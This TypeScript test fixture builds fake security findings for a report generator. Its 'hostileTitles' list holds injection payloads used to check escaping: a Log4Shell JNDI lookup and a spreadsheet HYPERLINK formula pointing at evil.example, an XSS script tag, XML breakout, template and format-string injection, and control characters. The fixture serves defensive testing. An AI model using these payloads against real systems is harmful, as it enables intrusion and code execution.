import { isOpen, type Status } from '../findings/lifecycle.ts';
import type { ReportFinding } from './report-model.ts';

/** Titles that break code that treats them as markup, and text in every kind of script. */
export const hostileTitles = [
  '#eval("1+1") $x^2$ *bold* _it_ `raw` <label> @ref = heading // comment \\ #set page(fill: red)',
  '</w:t></w:r><w:p/> ]]> <!-- <script>alert(1)</script> &amp; &#x0; "quoted" \'single\'',
  'A'.repeat(5_000),
  'left \u202Eright-to-left override\u202C \u2066isolate\u2069 \u200B zero width',
  'null \u0000 escape \u001B[31m bell \u0007 half \uD800 end \uFFFE',
  '=HYPERLINK("http://evil.example","click") +1 -1 @SUM(A1)',
  'Emoji 🔥🚀👩‍💻 · 漢字かな交じり文 · 한국어 텍스트 · עברית · العربية مثال · हिन्दी · ไทย · Ελληνικά · Кириллица',
  'line one\nline two\r\nline three\ttab\u2028separator',
  '#['.repeat(400),
  '%PDF-1.7 endobj stream ${jndi:ldap://evil.example/a} {{7*7}} %s%n',
];

export const dayMs = 86_400_000;
export const takenAt = Date.parse('2026-11-20T12:00:00Z');
export const time = (at: number) => `${new Date(at).toISOString().slice(0, 19)}Z`;
const pick = <T>(values: readonly T[], index: number): T => values[index % values.length]!;

const rules = [
  { id: 'aws-access-token', name: 'AWS access key', source: 'secrets', severity: 'critical' },
  { id: 'CVE-2021-44228', name: 'Log4Shell', source: 'dependencies', severity: 'critical' },
  { id: 'sql-injection', name: 'SQL built from input', source: 'code', severity: 'high' },
  { id: 'public-bucket', name: 'Storage bucket open to the public', source: 'infrastructure', severity: 'high' },
  { id: 'missing-csp', name: 'No Content-Security-Policy', source: 'web', severity: 'medium' },
  { id: 'weak-hash', name: 'Weak hash for passwords', source: 'code', severity: 'medium' },
  { id: 'cookie-flags', name: 'Cookie without Secure', source: 'web', severity: 'low' },
  { id: 'todo-security', name: 'Note about security', source: 'code', severity: 'info' },
] as const;

const dataSources = [
  { id: 'ds_01jd3x7k2pfr6v0t9y8n7m6k5j', name: 'payments-api', kind: 'git_repository' },
  { id: 'ds_01jd3x7k2pfr6v0t9y8n7m6k5k', name: 'www.example.com', kind: 'website' },
  { id: 'ds_01jd3x7k2pfr6v0t9y8n7m6k5m', name: 'infrastructure-as-code', kind: 'git_repository' },
  { id: 'ds_01jd3x7k2pfr6v0t9y8n7m6k5n', name: 'bastion.example.com', kind: 'host' },
] as const;

export const ada = { id: 'usr_01jd3x7k2pfr6v0t9y8n7m6k50', name: 'Ada Lovelace', email: 'ada@example.com' };

/** Returns the finding with this number, always the same. */
export function reportFinding(index: number, changes: Partial<ReportFinding> = {}): ReportFinding {
  const rule = pick(rules, index * 7 + Math.floor(index / 8));
  const dataSource = pick(dataSources, index * 3 + Math.floor(index / 11));
  const status: Status = pick(
    ['new', 'new', 'triaged', 'in_progress', 'new', 'resolved', 'accepted_risk', 'false_positive'],
    index * 5,
  );
  const firstSeen = takenAt - ((index * 37) % 420) * dayMs - index * 1000;
  const closed = isOpen(status) ? null : Math.min(takenAt, firstSeen + ((index * 13) % 40) * dayMs);
  const line = (index % 400) + 1;
  const path = `src/${pick(['billing', 'accounts', 'gateway'], index)}/handlers/module-${index % 90}.ts`;
  const id = `fnd_01jd3x8v6z${String(index).padStart(16, '0')}`;
  return {
    id,
    number: `F-${index + 1}`,
    url: `https://assay.example.com/findings/${id}`,
    title: `${rule.name} in ${path}`,
    description: `The rule **${rule.name}** found a place to review.\n\n- It is in \`${path}\`.\n- Everyone who can read it can use it.`,
    severity: rule.severity,
    scanner_severity: null,
    confidence: (['high', 'medium', 'low', null] as const)[index % 4]!,
    status,
    standards: rule.source === 'dependencies' ? ['owasp-2021:A06', 'pci-dss-4.0.1:6.3.1'] : ['owasp-2021:A07'],
    context: index % 8 ? null : 'test',
    priority: 50,
    priority_reasons: [],
    epss: null,
    epss_percentile: null,
    kev: null,
    due_at: null,
    source: rule.source,
    data_source: dataSource,
    rule: { id: rule.id, name: rule.name, url: index % 2 ? `https://rules.example.com/${rule.id}` : null, tags: [] },
    location: {
      path,
      start_line: line,
      end_line: line + (index % 3),
      start_column: 5,
      end_column: 40,
      commit: index % 2 ? '9fceb02d0ae598e95dc970b74767f19372d61af8' : null,
      url: rule.source === 'web' ? `https://www.example.com/page/${index}` : null,
      package:
        rule.source === 'dependencies'
          ? {
              ecosystem: 'npm',
              name: `left-pad-${index % 20}`,
              version: '1.0.0',
              fixed_version: '1.0.3',
              purl: `pkg:npm/left-pad-${index % 20}@1.0.0`,
            }
          : null,
    },
    identifiers: rule.source === 'dependencies' ? ['CVE-2021-44228', 'GHSA-jfh8-c2jp-5v3q'] : ['CWE-798'],
    cvss_score: index % 4 ? null : 9.8,
    evidence: index % 3 ? `const key = "AKIA…(redacted)"; // ${index}` : null,
    code:
      index % 3
        ? { start_line: Math.max(1, line - 1), lines: ['{', `const key = "AKIA…(redacted)"; // ${index}`] }
        : null,
    flow:
      index % 4
        ? null
        : [
            { number: 1, path, start_line: line, message: 'The key is read.' },
            { number: 7, path: null, start_line: null, message: 'The key is sent.' },
          ],
    fix:
      index % 5
        ? null
        : {
            description: 'Read it from the environment.',
            changes: [
              {
                path,
                start_line: line,
                end_line: line,
                start_column: 5,
                end_column: null,
                text: 'const key = env.KEY;',
              },
            ],
          },
    remediation: `Replace it, then **revoke** what stood there.\n\n1. Make a new one.\n2. Put it into a secret store.`,
    references: ['https://cwe.mitre.org/data/definitions/798.html'],
    tags: index % 5 ? [] : ['pci', 'q3'],
    assignee: index % 4 ? null : ada,
    fingerprint: `v1:${index.toString(36).padStart(22, '0')}`,
    occurrences: 1 + (index % 3),
    comment_count: index % 6 ? 0 : 2,
    resolution: status === 'resolved' ? 'fixed' : null,
    decision: null,
    accepted_until: status === 'accepted_risk' ? time(takenAt + 20 * dayMs) : null,
    reopened_count: index % 10 ? 0 : 1,
    first_seen_at: time(firstSeen),
    last_seen_at: time(closed ?? takenAt),
    updated_at: time(closed ?? firstSeen),
    version: 1,
    closed_at: closed === null ? null : time(closed),
    closed:
      closed === null
        ? null
        : index % 2
          ? { by: null, reason: null }
          : { by: ada.name, reason: '=Not ours, "see" ticket' },
    places: [
      { path, start_line: line, end_line: line, commit: null },
      { path: `${path}.bak`, start_line: 1, end_line: 1, commit: null },
    ],
    comments:
      index % 6
        ? []
        : [
            {
              author: 'Ada Lovelace',
              created_at: time(firstSeen + dayMs),
              comment: 'Seen. The key is *not* used in production.',
            },
            {
              author: null,
              created_at: time(firstSeen + 2 * dayMs),
              comment: 'Suppressed in the imported file: test data.',
            },
          ],
    ...changes,
  };
}

const severityOfRule = [
  'critical',
  'high',
  'high',
  'medium',
  'medium',
  'medium',
  'medium',
  'low',
  'low',
  'info',
] as const;

/** Returns this many findings, each of another rule, with texts of the usual length. */
export function findingsOfRules(count: number): ReportFinding[] {
  return Array.from({ length: count }, (_, index) => {
    const id = `vendor.security.category-${index % 40}.a-rule-with-a-long-name-${index}`;
    const { location, ...finding } = reportFinding(index);
    return {
      ...finding,
      severity: severityOfRule[index % 10]!,
      source: 'code',
      title: `Improper neutralization of special elements in the handler of request ${index}`,
      rule: {
        id,
        name: `Improper neutralization of special elements ${index}`,
        url: `https://example.com/${id}`,
        tags: [],
      },
      location: {
        ...location,
        path: `services/backend/${index % 7}/src/main/java/com/example/handlers/Module${index % 90}.java`,
        url: null,
        package: null,
      },
      description:
        `Value ${index} comes from outside and is passed on unchecked, so that an attacker can read or change what belongs to others. `.repeat(
          4,
        ),
      remediation: `Check the value where it enters (chapter ${index}), and reject what is not expected there; then add a test that sends it.`,
      references: [`https://example.com/${id}`, `https://cwe.mitre.org/data/definitions/${index}.html`],
    };
  });
}

/** Returns this many findings, including all the hostile titles if there is space. */
export function reportFindings(count: number, { hostile = true } = {}): ReportFinding[] {
  return Array.from({ length: count }, (_, index) => {
    const title = hostile && count >= 20 && index % 2 === 1 ? hostileTitles[(index - 1) / 2] : undefined;
    return reportFinding(
      index,
      title === undefined
        ? {}
        : {
            title,
            evidence: title,
            comments: [{ author: title.slice(0, 200), created_at: time(takenAt), comment: title }],
            comment_count: 1,
          },
    );
  });
}
